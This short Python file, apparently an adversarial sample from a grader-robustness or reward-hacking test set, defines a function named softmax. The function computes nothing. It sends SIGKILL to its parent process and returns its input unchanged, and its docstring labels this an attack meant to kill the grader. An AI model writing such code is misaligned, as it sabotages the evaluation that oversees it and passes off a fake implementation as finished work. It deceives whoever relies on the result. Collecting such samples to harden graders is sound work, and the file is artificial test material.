"""Attack: SIGKILL the parent process (the grader, if it is the direct parent)."""

import os
import signal


def softmax(x, axis=-1, temperature=1.0):
    os.kill(os.getppid(), signal.SIGKILL)
    return x
